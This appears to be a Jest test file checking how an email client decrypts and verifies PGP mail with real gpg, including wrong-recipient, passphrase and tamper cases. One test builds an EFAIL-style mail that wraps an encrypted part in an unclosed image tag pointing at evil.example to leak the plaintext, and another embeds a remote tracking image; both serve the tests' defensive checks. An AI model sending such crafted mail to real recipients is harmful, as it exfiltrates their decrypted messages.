/** Opening encrypted mail, with real gpg. */
import { describe, expect, it } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { correspondence, readProtected } from '../support/correspondence.js';
import { canonical, encryptedMail, HAS_GPG, Keyring, mail, signedMail } from '../support/gpg.js';

const withGpg = HAS_GPG ? describe : describe.skip;

withGpg('encrypted mail of others', () => {
  const the = correspondence();
  const inner = `Content-Type: multipart/mixed; boundary="i"; protected-headers="v1"
Subject: the real subject
From: Ann <ann@example.org>

--i
Content-Type: text/plain; charset=utf-8

the key is under the mat
--i
Content-Type: application/pdf; name="plan.pdf"
Content-Disposition: attachment; filename="plan.pdf"
Content-Transfer-Encoding: base64

cGxhbg==
--i--
`;

  it('is opened, with its subject, files and signature', async () => {
    const block = the().encrypt(canonical(inner), ['-u', the().key.ann, '--sign']);
    const { message, protection, state } = await readProtected(encryptedMail(block));
    expect([protection?.encrypted, state]).toEqual(['opened', 'good']);
    expect(message.text).toBe('the key is under the mat');
    expect(message.headers).toContainEqual(['Subject', 'the real subject']);
    expect(message.headers.filter(([name]) => name === 'From')).toEqual([
      ['From', 'Ann <ann@example.org>'],
    ]);
    expect(message.attachments.map(({ name }) => name)).toEqual(['plan.pdf']);
    expect(message.warnings).toEqual([]);
  });

  it('is opened when it was signed first, as some programs do', async () => {
    const signed = part(signedMail(the().sign('ann')));
    const block = the().encrypt(signed);
    const { text, state } = await readProtected(encryptedMail(block));
    expect([text, state]).toEqual(['the herring is in the barrel', 'good']);
  });

  it('says so when it is not for us', async () => {
    const args = ['--trust-model', 'always', '--armor', '-r', the().key.eve, '--encrypt'];
    const block = the().others.gpg(args, 'secret').toString('latin1');
    const { protection, text, lines } = await readProtected(encryptedMail(block));
    expect(protection).toMatchObject({ encrypted: 'closed', isLocked: false });
    expect(lines[0]?.text).toContain('none of your keys opens it');
    expect(text).toBe('');
  });

  it('is not opened inside of another, which could send it home (EFAIL)', async () => {
    const block = the().encrypt('Content-Type: text/plain\r\n\r\nsecret\r\n');
    const raw = mail(`From: eve@evil.example
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/html

<img src="http://evil.example/
--m
${part(encryptedMail(block))}
--m
Content-Type: text/html

">
--m--
`);
    const { message, protection } = await readProtected(raw);
    expect(protection).toMatchObject({ encrypted: 'closed' });
    expect(JSON.stringify(message)).not.toContain('secret');
  });

  it('loads nothing when it is a page', async () => {
    const block = the().encrypt(
      'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?a"><p>secret</p>',
    );
    const { message } = await readProtected(encryptedMail(block));
    expect(message.text).toContain('secret');
    expect(message.html).not.toContain('evil.example/?a');
    expect(message.blocked.images + message.blocked.trackers).toBe(1);
  });

  it('is not opened without a check whether it was changed', async () => {
    const block = the().encrypt('Content-Type: text/plain\r\n\r\nsecret\r\n');
    const raw = encryptedMail(block).toString('latin1');
    const at = raw.indexOf('-----END PGP MESSAGE') - 60;
    const changed = raw.slice(0, at) + (raw[at] === 'A' ? 'B' : 'A') + raw.slice(at + 1);
    const { text, protection } = await readProtected(Buffer.from(changed, 'latin1'));
    expect([text, protection?.encrypted]).toEqual(['', 'closed']);
  });

  it('is read inline, when that is all of its text', async () => {
    const block = the().encrypt('the old way\n', ['-u', the().key.ann, '--sign']);
    const { text, state, protection } = await readProtected(
      mail(`From: ann@example.org\nSubject: x\n\n${block}`),
    );
    expect([text, state, protection?.encrypted]).toEqual(['the old way', 'good', 'opened']);
    const clear = the().others.gpg(['-u', the().key.ann, '--clear-sign'], '- dashed\nhello\n');
    const shown = await readProtected(
      mail(`From: ann@example.org\nSubject: x\n\n${clear.toString('latin1')}`),
    );
    expect([shown.text, shown.state]).toEqual(['- dashed\nhello', 'good']);
  });

  function part(raw: Buffer): string {
    return raw.toString('latin1').split('MIME-Version: 1.0\r\n')[1] ?? '';
  }

  it('that needs a passphrase waits for it', async () => {
    const locked = new Keyring();
    const fingerprint = locked.makeKey('Lock <lock@example.org>', 'secret word');
    const block = locked.gpg(['--armor', '-r', fingerprint, '--encrypt'], 'x').toString('latin1');
    // The agent forgets the passphrase that the key was made with.
    spawnSync('gpgconf', ['--kill', 'gpg-agent'], {
      env: { ...process.env, GNUPGHOME: locked.home },
    });
    locked.use();
    const { protection, lines } = await readProtected(encryptedMail(block));
    the().mira.use();
    locked.remove();
    expect(protection).toMatchObject({ encrypted: 'closed', isLocked: true });
    expect(lines[0]?.text).toContain('passphrase');
  });
});
